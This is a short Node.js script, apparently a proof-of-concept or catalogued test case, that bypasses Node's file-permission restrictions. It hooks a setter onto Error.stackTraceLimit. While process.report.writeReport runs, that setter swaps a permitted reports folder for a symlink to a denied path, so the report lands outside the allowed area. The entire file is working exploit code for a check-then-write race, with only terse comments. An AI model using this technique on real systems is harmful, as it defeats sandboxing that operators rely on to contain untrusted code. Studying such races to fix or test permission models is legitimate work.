// Lays a link in the place of the folder while Node makes the error that a report shows.
// stopped by: nothing of the program runs between the decision and the writing
// nodes: 18
const fs = require('node:fs');
const lab = JSON.parse(process.argv[2]);
const folder = `${lab.granted}/reports`;
fs.mkdirSync(folder);
Object.defineProperty(Error, 'stackTraceLimit', {
  configurable: true, get: () => 10,
  set() {
    if (fs.lstatSync(folder).isSymbolicLink()) return;
    fs.rmdirSync(folder);
    fs.symlinkSync(lab.denied, folder);
  },
});
process.report.writeReport(`${folder}/a.json`);
